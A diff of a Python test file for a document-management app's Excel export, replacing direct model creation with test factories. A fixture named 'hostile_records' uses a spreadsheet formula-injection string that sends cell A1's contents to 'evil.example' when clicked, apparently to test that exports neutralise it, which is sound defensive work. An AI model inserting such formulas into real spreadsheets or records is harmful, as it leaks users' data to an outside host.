@@ -12,8 +12,8 @@ import pytest
 from openpyxl import load_workbook
 
 from procedures.copies import exports
-from procedures.models import ExternalDocument, RecordType
 from tests.procedures.control_helpers import issue_now
+from tests.procedures.factories import ExternalDocumentFactory, RecordTypeFactory
 from tests.procedures.test_acknowledgements import distribute
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
@@ -48,10 +48,10 @@ def hostile_records(client, org, make_document, django_capture_on_commit_callbac
     document = make_document(title=HYPERLINK)
     distribute(client, org["secretary"], document, departments=[org["ccvc"]])
     issue_now(client, org, document, django_capture_on_commit_callbacks)
-    ExternalDocument.objects.create(
+    ExternalDocumentFactory(
         number="01/2025/TT-BNV", title=HYPERLINK, issuing_body=DDE, issue_date=datetime.date(2025, 1, 1)
     )
-    RecordType.objects.create(code="HS-01", name=DDE, keeper_department=org["ccvc"], retention_years=5)
+    RecordTypeFactory(code="HS-01", name=DDE, keeper_department=org["ccvc"], retention_years=5)
     return document
 
 
